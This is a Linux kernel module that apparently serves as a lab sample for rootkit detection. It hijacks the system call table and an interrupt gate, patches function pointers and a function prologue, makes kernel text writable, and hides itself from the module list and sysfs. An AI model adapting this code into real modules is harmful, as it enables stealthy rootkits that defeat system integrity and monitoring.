// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * lab_hidden.c - arms a kprobe, leaves executable memory behind that no record has, makes its own
 * text writable, changes tables of system calls and gates, pointers to functions, a constant, a static
 * call and the beginning of a function, and takes itself off the list of modules.
 * Built as lab_absent, it leaves /sys/module as well; built as lab_unlisted, all places where the
 * kernel keeps modules.
 */
#include <linux/binfmts.h>
#include <linux/ctype.h>
#include <linux/fs.h>
#include <linux/interrupt.h>
#include <linux/kprobes.h>
#include <linux/kthread.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/netdevice.h>
#include <linux/netfilter_ipv4.h>
#include <linux/notifier.h>
#include <linux/proc_fs.h>
#include <linux/seq_file.h>
#include <linux/syscalls.h>
#include <linux/sysrq.h>
#include <linux/timer.h>
#include <net/tcp.h>
#include <linux/vmalloc.h>
#include <linux/workqueue.h>

static unsigned long (*look_up)(const char *name);

static int hidden_pre(struct kprobe *p, struct pt_regs *regs)
{
	return 0;
}

static struct kprobe hidden_probe = { .symbol_name = "orderly_poweroff",
				      .pre_handler = hidden_pre };

/* kallsyms_lookup_name() is not exported: a kprobe on it has its address */
static int find_look_up(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	int err = register_kprobe(&kp);

	if (err)
		return err;
	look_up = (void *)kp.addr;
	unregister_kprobe(&kp);
	return 0;
}

#if !defined(LAB_ABSENT) && !defined(LAB_UNLISTED)
/*
 * Linux 12af2b83d0b1 ("mm: introduce execmem_alloc() and execmem_free()") (v6.10),
 * Linux 838955f64ae7 ("execmem: introduce execmem_alloc_rw()") (v6.17)
 */
static void *alloc_text(unsigned long size)
{
	void *(*module_alloc_)(unsigned long) = (void *)look_up("module_alloc");
	void *(*alloc_rw)(int, size_t) = (void *)look_up("execmem_alloc_rw");
	void *(*execmem_alloc_)(int, size_t) = (void *)look_up("execmem_alloc");

	return module_alloc_  ? module_alloc_(size) :
	       alloc_rw	      ? alloc_rw(0, size) :
	       execmem_alloc_ ? execmem_alloc_(0, size) :
				NULL;
}

static int make_text(const char *what, unsigned int pages, bool writable)
{
	int (*set_x)(unsigned long, int) = (void *)look_up("set_memory_x");
	int (*set_ro)(unsigned long, int) = (void *)look_up("set_memory_ro");
	void *text = alloc_text(pages * PAGE_SIZE);
	int err;

	if (!text || !set_x || !set_ro)
		return -ENOENT;
	memset(text, 0x90, pages * PAGE_SIZE);
	err = writable ? 0 : set_ro((unsigned long)text, pages);
	err = err ?: set_x((unsigned long)text, pages);
	pr_info("lab_hidden: %s %px %u\n", what, text, pages);
	return err;
}

/* memory that is in no area of the vmalloc space; arm64 refuses that */
static int make_direct(void)
{
#ifdef CONFIG_X86_64
	int (*set_x)(unsigned long, int) = (void *)look_up("set_memory_x");
	unsigned long page = __get_free_page(GFP_KERNEL | __GFP_ZERO);
	int err = page && set_x ? set_x(page, 1) : -ENOENT;

	pr_info("lab_hidden: direct %lx 1\n", page);
	return err;
#else
	return 0;
#endif
}

static int open_text(void)
{
	int (*set_rw)(unsigned long, int) = (void *)look_up("set_memory_rw");
	unsigned long page = (unsigned long)hidden_pre & PAGE_MASK;
	int err = set_rw ? set_rw(page, 1) : -ENOENT;

	pr_info("lab_hidden: open %lx 1\n", page);
	return err;
}

/* the kernel's own address of it is read-only */
static int write_word(unsigned long addr, unsigned long value)
{
	struct page *page = pfn_to_page(__pa_symbol((void *)addr) >> PAGE_SHIFT);
	void *at = vmap(&page, 1, VM_MAP, PAGE_KERNEL);

	if (!at)
		return -ENOMEM;
	WRITE_ONCE(*(unsigned long *)(at + offset_in_page(addr)), value);
	vunmap(at);
	return 0;
}

static int hidden_notice(struct notifier_block *b, unsigned long event, void *data)
{
	return NOTIFY_DONE;
}

/* in other headers before 5.14 */
extern struct atomic_notifier_head panic_notifier_list;

static struct notifier_block hidden_block = { .notifier_call = hidden_notice };

static int join_chain(void)
{
	pr_info("lab_hidden: notifier %px\n", hidden_notice);
	return atomic_notifier_chain_register(&panic_notifier_list, &hidden_block);
}

typedef asmlinkage long call_fn(const struct pt_regs *regs);

static call_fn *acct;

static asmlinkage long hidden_call(const struct pt_regs *regs)
{
	return acct(regs);
}

static int change_call(unsigned long *table, unsigned int nr, unsigned long func)
{
	pr_info("lab_hidden: call %lx %u %ps\n", func, nr, (void *)table[nr]);
	return write_word((unsigned long)&table[nr], func);
}

static int change_calls(void)
{
	unsigned long *table = (void *)look_up("sys_call_table");

	if (!table)
		return -ENOENT;
	acct = (call_fn *)table[__NR_acct];
	return change_call(table, __NR_acct, (unsigned long)hidden_call) ?:
		       change_call(table, __NR_setdomainname, table[__NR_sethostname]);
}

#define UNUSED_GATE 31

static int change_gate(void)
{
#ifdef CONFIG_X86_64
	unsigned long func = (unsigned long)hidden_pre, gates = look_up("idt_table");

	if (!gates)
		return -ENOENT;
	gates += UNUSED_GATE * 16;
	pr_info("lab_hidden: gate %lx %u\n", func, UNUSED_GATE);
	return write_word(gates + 8, func >> 32) ?:
		       write_word(gates, (func & 0xffff) | __KERNEL_CS << 16 | 0x8e00UL << 32 |
						 (func >> 16 & 0xffff) << 48);
#else
	return 0;
#endif
}

static loff_t (*null_seek)(struct file *file, loff_t offset, int whence);

static loff_t hidden_seek(struct file *file, loff_t offset, int whence)
{
	return null_seek(file, offset, whence);
}

static int change_pointer(unsigned long at, unsigned long func)
{
	pr_info("lab_hidden: pointer %lx %ps\n", func, *(void **)at);
	return write_word(at, func);
}

/* constant: struct file_operations of /dev/null */
static int change_operation(void)
{
	struct file *file = filp_open("/dev/null", O_RDONLY, 0);

	if (IS_ERR(file))
		return PTR_ERR(file);
	null_seek = file->f_op->llseek;
	return change_pointer((unsigned long)&file->f_op->llseek, (unsigned long)hidden_seek);
}

/* nobody makes this call in the guest */
static int hidden_protocol(void)
{
	return -ENOTTY;
}

static int (*settime)(const void *, const void *);

static int hidden_settime(const void *time, const void *zone)
{
	return settime(time, zone);
}

#define HOOKS 1024 /* bytes of capability_hooks[] */

/* where the kernel has symbols of data */
static int change_security(void)
{
	unsigned long *at = (void *)look_up("capability_hooks"), *end = at + HOOKS / sizeof(*at);

	settime = (void *)look_up("cap_settime");
	for (; at && at < end; at++) {
		if (*at == (unsigned long)settime)
			return change_pointer((unsigned long)at, (unsigned long)hidden_settime);
	}
	return 0;
}

/* what _ctype[] says of a letter that nobody prints */
static int change_constant(void)
{
	unsigned long at = ALIGN((unsigned long)_ctype + 240, sizeof(at));

	pr_info("lab_hidden: constant %lx\n", at + 7);
	return write_word(at, *(unsigned long *)at ^ 0x80UL << 56);
}

static int change_data(void)
{
	return change_operation() ?:
	       change_pointer((unsigned long)&tcp_prot.ioctl, (unsigned long)hidden_protocol) ?:
	       change_security() ?:
	       change_constant();
}

/* zero as built; nobody raises this one in the guest */
static void hidden_softirq(void)
{
}

#define UNUSED_SOFTIRQ IRQ_POLL_SOFTIRQ

static int change_variable(void)
{
	unsigned long *at = (void *)look_up("softirq_vec");

	if (!at)
		return 0;
	pr_info("lab_hidden: variable %px softirq_vec\n", hidden_softirq);
	return write_word((unsigned long)&at[UNUSED_SOFTIRQ], (unsigned long)hidden_softirq);
}

#ifdef CONFIG_X86_64
/* of a tracepoint that is off */
static void change_static_call(void)
{
	void (*update)(void *, void *, void *) = (void *)look_up("__static_call_update");
	unsigned long *key = (void *)look_up("__SCK__tp_func_block_unplug");
	void *trampoline = (void *)look_up("__SCT__tp_func_block_unplug");

	if (!update || !key || !trampoline)
		return;
	pr_info("lab_hidden: pointer %px %ps\n", hidden_softirq, (void *)*key);
	update(key, trampoline, hidden_softirq);
}

/* a jump over the beginning of a function that nobody calls */
static int change_beginning(void)
{
	unsigned long at = look_up("orderly_reboot"), to = (unsigned long)hidden_softirq, word;

	if (!at)
		return -ENOENT;
	word = *(unsigned long *)at & ~0xffffffffffUL;
	pr_info("lab_hidden: beginning %lx\n", at);
	return write_word(at, word | 0xe9 | (u64)(u32)(to - (at + 5)) << 8);
}

/* what the linker left of the last page of text */
static int write_behind(void)
{
	unsigned long at = ALIGN(look_up("_etext"), sizeof(at));

	if (!offset_in_page(at))
		return 0;
	pr_info("lab_hidden: behind %lx\n", at);
	return write_word(at, 0xc3909090);
}

/* what the kernel protects where it has all of memory mapped */
static int open_alias(void)
{
	unsigned long at = (unsigned long)__va(__pa_symbol((void *)look_up("_stext")));
	pte_t *(*find_entry)(unsigned long, unsigned int *) = (void *)look_up("lookup_address");
	unsigned int level;
	unsigned long *entry = find_entry ? (unsigned long *)find_entry(at, &level) : NULL;

	if (!entry)
		return -ENOENT;
	WRITE_ONCE(*entry, *entry | _PAGE_RW);
	pr_info("lab_hidden: alias %lx\n", at & -(PAGE_SIZE << 9 * (level - 1)));
	return 0;
}

static int change_text(void)
{
	change_static_call();
	return change_beginning() ?: write_behind() ?: open_alias();
}
#else
static int change_text(void)
{
	return 0;
}
#endif

/* ---- what the kernel is asked to call ---- */

static struct net_device_ops operations;

static netdev_tx_t (*transmit)(struct sk_buff *skb, struct net_device *dev);

static netdev_tx_t hidden_transmit(struct sk_buff *skb, struct net_device *dev)
{
	return transmit(skb, dev);
}

/* a copy of an interface's operations */
static void change_interface(void)
{
	struct net_device *lo = init_net.loopback_dev;

	operations = *lo->netdev_ops;
	transmit = operations.ndo_start_xmit;
	operations.ndo_start_xmit = hidden_transmit;
	lo->netdev_ops = &operations;
	pr_info("lab_hidden: registered %px interface lo: ndo_start_xmit\n", hidden_transmit);
}

#define DISTANT (3600 * HZ)

static unsigned int hidden_filter(void *priv, struct sk_buff *skb, const struct nf_hook_state *state)
{
	return NF_ACCEPT;
}

static const struct nf_hook_ops filter_ops = {
	.hook = hidden_filter, .pf = NFPROTO_IPV4, .hooknum = NF_INET_LOCAL_IN
};

static int hidden_packet(struct sk_buff *skb, struct net_device *dev, struct packet_type *type,
			 struct net_device *from)
{
	kfree_skb(skb);
	return 0;
}

static struct packet_type packet_type = { .type = htons(0x88b5), .func = hidden_packet };

static void hidden_timer(struct timer_list *t)
{
}

static DEFINE_TIMER(timer, hidden_timer);

static void hidden_work(struct work_struct *work)
{
}

static DECLARE_DELAYED_WORK(delayed, hidden_work);

static int hidden_thread(void *data)
{
	while (!kthread_should_stop())
		schedule_timeout_interruptible(DISTANT);
	return 0;
}

static int hidden_binary(struct linux_binprm *program)
{
	return -ENOEXEC;
}

static struct linux_binfmt format = { .module = THIS_MODULE, .load_binary = hidden_binary };

/* the parameter's type depends on the kernel */
static void hidden_key(void)
{
}

static struct sysrq_key_op key = { .handler = (void *)hidden_key, .help_msg = "x", .action_msg = "x" };

static int hidden_show(struct seq_file *s, void *v)
{
	return 0;
}

static irqreturn_t hidden_interrupt(int irq, void *data)
{
	return IRQ_NONE;
}

/* any that nobody has, or that can be shared */
static void take_interrupt(void)
{
	int irq;

	for (irq = 5; irq < 64; irq++) {
		if (request_irq(irq, hidden_interrupt, IRQF_SHARED, "lab_taken", &key))
			continue;
		pr_info("lab_hidden: registered %px irq %d lab_taken: handler\n", hidden_interrupt, irq);
		return;
	}
}

static int register_all(void)
{
	struct task_struct *thread = kthread_run(hidden_thread, NULL, "lab_hidden");
	int err = nf_register_net_hook(&init_net, &filter_ops);

	if (err || IS_ERR(thread))
		return err ?: PTR_ERR(thread);
	change_interface();
	dev_add_pack(&packet_type);
	mod_timer(&timer, jiffies + DISTANT);
	schedule_delayed_work(&delayed, DISTANT);
	register_binfmt(&format);
	take_interrupt();
	if (proc_create_single("lab_made", 0444, NULL, hidden_show))
		pr_info("lab_hidden: registered %px /proc/lab_made: single_show\n", hidden_show);
	pr_info("lab_hidden: registered %px netfilter ipv4 LOCAL_IN: hook\n", hidden_filter);
	pr_info("lab_hidden: registered %px ptype_base: func\n", hidden_packet);
	pr_info("lab_hidden: registered %px timer: function\n", hidden_timer);
	pr_info("lab_hidden: registered %px delayed work: func\n", hidden_work);
	pr_info("lab_hidden: registered %px kernel thread lab_hidden/%d: threadfn\n", hidden_thread,
		thread->pid);
	pr_info("lab_hidden: registered %px binary format: load_binary\n", hidden_binary);
	pr_info("lab_hidden: registered %px sysrq_key_table[^ ]*: handler\n", hidden_key);
	return register_sysrq_key('a', &key);
}

static int make_texts(void)
{
	int err = register_all() ?: join_chain() ?: change_calls() ?: change_gate() ?: change_data() ?:
		  change_variable() ?: change_text();

	err = err ?: make_text("text", 2, false) ?: make_text("writable", 1, true);
	return err ?: make_direct();
}
#else
static int make_texts(void)
{
	return 0;
}

static int open_text(void)
{
	return 0;
}
#endif

#ifdef LAB_UNLISTED
/* where the kernel has no function of its own for that, it stays in the tree */
static bool leave_all(void)
{
	void (*leave_tree)(struct module *) = (void *)look_up("mod_tree_remove");
	void (*leave_bugs)(struct module *) = (void *)look_up("module_bug_cleanup");

	if (!leave_tree || !leave_bugs)
		return false;
	leave_tree(THIS_MODULE);
	leave_bugs(THIS_MODULE);
	return true;
}
#else
static bool leave_all(void)
{
	return false;
}
#endif

static void hide(struct work_struct *work)
{
	struct mutex *lock = (void *)look_up("module_mutex");
	bool unlisted;

	mutex_lock(lock);
	list_del_init(&THIS_MODULE->list);
	unlisted = leave_all();
	mutex_unlock(lock);
#if defined(LAB_ABSENT) || defined(LAB_UNLISTED)
	kobject_del(&THIS_MODULE->mkobj.kobj);
#endif
	if (unlisted)
		pr_info("lab_hidden: unlisted %lx\n", (unsigned long)hidden_pre & PAGE_MASK);
	else
		pr_info("lab_hidden: module %s %px hides\n", THIS_MODULE->name, THIS_MODULE);
	open_text();
}

static DECLARE_DELAYED_WORK(hider, hide);

static int __init hidden_init(void)
{
	int err = find_look_up();

	err = err ?: make_texts();
	err = err ?: register_kprobe(&hidden_probe);
	if (err)
		return err;
	pr_info("lab_hidden: handler %px\n", hidden_pre);
	schedule_delayed_work(&hider, HZ / 2);
	return 0;
}

module_init(hidden_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("hides, and leaves executable memory behind");
